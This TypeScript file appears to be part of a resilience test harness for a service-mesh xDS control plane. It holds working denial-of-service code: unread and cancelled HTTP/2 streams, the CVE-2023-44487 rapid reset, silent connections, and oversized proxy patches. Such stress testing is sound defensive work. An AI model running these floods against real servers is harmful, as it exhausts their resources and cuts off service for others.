import { randomUUID } from 'node:crypto';
import { constants } from 'node:http2';
import { connect as connectTcp } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { create, toBinary } from '@bufbuild/protobuf';
import { DeltaDiscoveryRequestSchema } from '../../../shared/xds/gen/envoy/service/discovery/v3/discovery_pb.js';
import { TYPE_URL } from '../../../shared/xds/snapshot.ts';
import type { Attack } from '../attack.ts';
import { frame, open, session } from '../rawGrpc.ts';
import type { Target } from '../target.ts';

const UNREAD = 100;
const CHANGES = 40;
const DROPPED = 2_000;
const RESETS = 5_000;
const SILENT = 300;

/** Streams by the thousand that are dropped, reset, left alone or never read: they cost what they hold, for as long as they last. */
export const streams: Attack = {
  name: 'streams without number',
  run: async (target) => {
    await neverRead(target);
    await dropped(target);
    await resets(target);
    await silent(target);
    return [];
  },
};

/** Proxies that ask for everything and read nothing, while the mesh changes again and again. */
async function neverRead({ ads, global }: Target): Promise<void> {
  const clients = await Promise.all(
    Array.from({ length: UNREAD }, async () => {
      const client = await session(ads);
      // The window of the whole connection, and so of its streams, stays as small as it began: the server cannot get rid of much.
      const stream = open(client);
      stream.pause();
      stream.write(hello(`unread-${randomUUID()}`, TYPE_URL.cluster));
      stream.write(hello('', TYPE_URL.listener));
      return client;
    }),
  );
  const name = `unread-${randomUUID()}`;
  for (let i = 0; i < CHANGES; i++) await put(global, name, i);
  await fetch(`${global}/meshes/default/meshproxypatches/${name}`, { method: 'DELETE' });
  for (const client of clients) client.destroy();
}

async function dropped({ ads }: Target): Promise<void> {
  const client = await session(ads);
  for (let i = 0; i < DROPPED && !client.destroyed; i++) {
    const stream = open(client);
    stream.write(hello(`dropped-${i}`, TYPE_URL.cluster));
    if (i % 50 === 49) await sleep(1);
    stream.close(constants.NGHTTP2_CANCEL);
  }
  client.destroy();
}

/** The rapid reset of CVE-2023-44487. */
async function resets({ ads }: Target): Promise<void> {
  const client = await session(ads);
  for (let i = 0; i < RESETS && !client.destroyed; i++) {
    open(client).close(constants.NGHTTP2_CANCEL);
    if (i % 500 === 499) await sleep(1);
  }
  await sleep(100);
  client.destroy();
}

/** Connections that say nothing, before TLS and after, and streams that never ask. */
async function silent({ ads }: Target): Promise<void> {
  const [host = '', port = ''] = ads.split(':');
  const sockets = Array.from({ length: SILENT }, () => connectTcp(Number(port), host).on('error', () => {}));
  const client = await session(ads);
  for (let i = 0; i < SILENT && !client.destroyed; i++) open(client);
  await sleep(500);
  client.destroy();
  for (const socket of sockets) socket.destroy();
}

function hello(name: string, typeUrl: string): Buffer {
  const resource = {
    type: 'Dataplane',
    mesh: 'default',
    name,
    networking: { address: '10.8.8.8', inbound: [{ port: 80, tags: { 'kuma.io/service': 'unread' } }] },
  };
  const metadata = { 'dataplane.resource': JSON.stringify(resource), 'dataplane.proxyType': 'dataplane' };
  const node = name === '' ? undefined : { id: `default.${name}`, cluster: name, metadata };
  return frame(
    toBinary(DeltaDiscoveryRequestSchema, create(DeltaDiscoveryRequestSchema, { typeUrl, ...(node && { node }) })),
  );
}

async function put(global: string, name: string, turn: number): Promise<void> {
  const value = JSON.stringify({
    name: `filler-${turn}`,
    connectTimeout: '5s',
    type: 'STATIC',
    altStatName: 'a'.repeat(100_000),
  });
  const spec = { default: { appendModifications: [{ cluster: { operation: 'Add', value } }] } };
  const response = await fetch(`${global}/meshes/default/meshproxypatches/${name}`, {
    method: 'PUT',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ type: 'MeshProxyPatch', mesh: 'default', name, spec }),
  });
  if (!response.ok) throw new Error(`a change was answered ${response.status}: ${await response.text()}`);
}
